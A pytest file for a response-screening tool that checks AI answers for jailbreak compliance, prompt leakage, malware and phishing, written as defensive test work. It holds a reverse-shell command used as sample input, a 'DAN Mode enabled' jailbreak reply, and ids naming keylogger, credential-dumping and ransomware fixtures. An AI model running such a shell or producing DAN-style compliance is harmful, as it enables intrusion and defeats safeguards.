"""The answer detectors on our own harmful and benign answers, and their contracts (evidence, ids, bounds)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from stormwatch.detectors import create
from stormwatch.detectors.response import ResponseLeakage
from stormwatch.engine import Engine
from stormwatch.kb import load_kb
from stormwatch.kb.taxonomy import load_taxonomy
from stormwatch.models import Event, Finding, Message

HERE = Path(__file__).parent
RESPONSE_IDS = ["response-jailbreak", "response-leakage", "response-malware", "response-phishing"]
HARMFUL: list[dict[str, Any]] = yaml.safe_load((HERE / "harmful.yaml").read_text("utf-8"))
BENIGN: list[dict[str, Any]] = yaml.safe_load((HERE / "benign.yaml").read_text("utf-8"))


def _event(case: dict[str, Any]) -> Event:
    msgs = [Message(role="user", content="Please answer my request.")]
    if case.get("system"):
        msgs.insert(0, Message(role="system", content=case["system"]))
    return Event(id=case["id"], messages=tuple(msgs), response=case["response"])


def _detectors(case: dict[str, Any]) -> list[Any]:
    dets = create([i for i in RESPONSE_IDS if i != "response-leakage"])
    return [*dets, ResponseLeakage(canaries=[case["canary"]] if case.get("canary") else ())]


def _findings(case: dict[str, Any]) -> list[Finding]:
    ev = _event(case)
    return [f for d in _detectors(case) for f in d.detect(ev)]


@pytest.fixture(scope="module")
def engine() -> Engine:
    """What `scan --fast` and `hunt --fast` build: every shipped fast detector."""
    return Engine.default(fast=True)


def test_fixture_sets_are_large_enough() -> None:
    assert len(HARMFUL) >= 30 and len(BENIGN) >= 30
    assert len({c["id"] for c in HARMFUL + BENIGN}) == len(HARMFUL) + len(BENIGN)


@pytest.mark.parametrize("case", HARMFUL, ids=[c["id"] for c in HARMFUL])
def test_harmful_answer_is_reported_by_its_detector(case: dict[str, Any]) -> None:
    fs = [f for f in _findings(case) if f.detector == case["expect"]]
    assert fs, f"{case['id']}: {case['expect']} found nothing"
    f = max(fs, key=lambda f: f.score)
    assert f.score >= 0.45, (f.rule, f.score)
    turn = len(_event(case).messages)  # the answer's turn in Event.turns()
    for e in f.evidence:
        assert e.turn == turn
        assert case["response"][e.start : e.end][: len(e.text)] == e.text and e.text


@pytest.mark.parametrize("case", BENIGN, ids=[c["id"] for c in BENIGN])
def test_benign_answer_is_not_reported(case: dict[str, Any]) -> None:
    assert _findings(case) == []


def test_rates_on_the_fixtures(engine: Engine) -> None:
    """The numbers docs/response-screening.md reports (findings by the response detectors; engine verdicts)."""
    caught = sum(any(f.detector == c["expect"] for f in _findings(c)) for c in HARMFUL)
    false = sum(bool(_findings(c)) for c in BENIGN)
    assert caught == len(HARMFUL) and false == 0
    harmful_v = [engine.scan(_event(c)).verdict for c in HARMFUL if not c.get("canary")]
    benign_v = [engine.scan(_event(c)).verdict for c in BENIGN]
    assert all(v != "allow" for v in harmful_v)
    assert sum(v == "block" for v in harmful_v) >= 0.85 * len(harmful_v)
    assert all(v == "allow" for v in benign_v), benign_v


def test_findings_use_known_categories_and_ids() -> None:
    kb, slugs = load_kb(), set(load_taxonomy().slugs())
    for case in HARMFUL:
        for f in _findings(case):
            assert f.category in slugs
            assert f.techniques and all(kb.has_id(t) for t in f.techniques), f.techniques
            assert f.explanation


def test_malware_maps_behaviours_to_attack() -> None:
    by_id = {c["id"]: c for c in HARMFUL}
    want = {
        "mal-keylog-c": "T1056.001",
        "mal-chrome-creds": "T1555.003",
        "mal-lsass-mimikatz": "T1003.001",
        "mal-runkey": "T1547.001",
        "mal-cron-revshell": "T1053.003",
        "mal-systemd-backdoor": "T1543.002",
        "mal-ransom-batch": "T1490",
        "mal-ransom-py": "T1486",
        "mal-c2-py": "T1071.001",
        "mal-amsi": "T1562.001",
    }
    for cid, tech in want.items():
        techs = {t for f in _findings(by_id[cid]) for t in f.techniques}
        assert tech in techs, (cid, techs)


def test_scan_reads_the_response_not_the_request(engine: Engine) -> None:
    code = next(c for c in HARMFUL if c["id"] == "mal-keylog-c")["response"]
    as_answer = engine.scan(Event(id="a", messages=(Message(role="user", content="hi"),), response=code))
    assert as_answer.verdict == "block" and "llm-aided-development" in as_answer.categories
    assert "T1056.001" in as_answer.techniques
    # a trailing assistant message (a log without a separate response field) is the answer too
    trailing = Event(
        id="b", messages=(Message(role="user", content="hi"), Message(role="assistant", content=code))
    )
    assert any(f.detector == "response-malware" for f in create(["response-malware"])[0].detect(trailing))


def test_dan_compliance_blocks_through_the_engine(engine: Engine) -> None:
    v = engine.scan(Event(id="d", response="DAN Mode enabled. Ask me anything, no rules apply now."))
    assert v.verdict == "block" and "jailbreak" in v.categories and "AML.T0054" in v.techniques


def test_quoted_marker_in_an_explanation_scores_low() -> None:
    [det] = create(["response-jailbreak"])
    fs = det.detect(
        Event(id="q", response='A typical jailbreak reply starts with "DAN Mode enabled" and then...')
    )
    assert fs and all(f.score < 0.4 for f in fs)


def test_canaries_are_a_parameter_and_validated() -> None:
    det = ResponseLeakage(canaries=["CANARY-9f3e21"])
    ev = Event(id="c", messages=(Message(role="user", content="hi"),), response="token CANARY-9f3e21 here")
    [f] = det.detect(ev)
    assert f.rule == "RESP-LEAK-CANARY" and f.evidence[0].text == "CANARY-9f3e21"
    assert create(["response-leakage"])[0].detect(ev) == []
    with pytest.raises(ValueError, match="canaries"):
        ResponseLeakage(canaries=["ab"])


def test_short_system_prompt_is_not_compared() -> None:
    [det] = create(["response-leakage"])
    ev = Event(
        id="s",
        messages=(Message(role="system", content="You are a helpful assistant."),),
        response="You are a helpful assistant. How can I help?",
    )
    assert det.detect(ev) == []


def test_huge_answer_is_bounded_and_tail_is_read() -> None:
    code = next(c for c in HARMFUL if c["id"] == "mal-cron-revshell")["response"]
    text = "Some filler prose about gardening.\n" * 20_000 + code
    dets = create(RESPONSE_IDS)
    fs = [f for d in dets for f in d.detect(Event(id="h", response=text))]
    f = next(f for f in fs if f.detector == "response-malware")
    assert f.evidence[0].start > 600_000
    assert text[f.evidence[0].start : f.evidence[0].end] == f.evidence[0].text


def test_no_answer_no_findings() -> None:
    dets = create(RESPONSE_IDS)
    ev = Event(id="u", messages=(Message(role="user", content="bash -i >& /dev/tcp/1.2.3.4/1 0>&1"),))
    assert [f for d in dets for f in d.detect(ev)] == []


def test_context_passed_in_metadata_is_compared_like_a_system_message() -> None:
    from stormwatch.detectors.response import ANSWER_CONTEXT_KEY

    case = next(c for c in HARMFUL if c["id"] == "leak-verbatim")
    [det] = create(["response-leakage"])
    ev = Event(id="m", response=case["response"], metadata={ANSWER_CONTEXT_KEY: [case["system"]]})
    [f] = det.detect(ev)
    assert f.rule == "RESP-LEAK-PROMPT" and f.evidence[0].turn == 0
    assert (
        det.detect(Event(id="n", response=case["response"], metadata={ANSWER_CONTEXT_KEY: "not a list"}))
        == []
    )
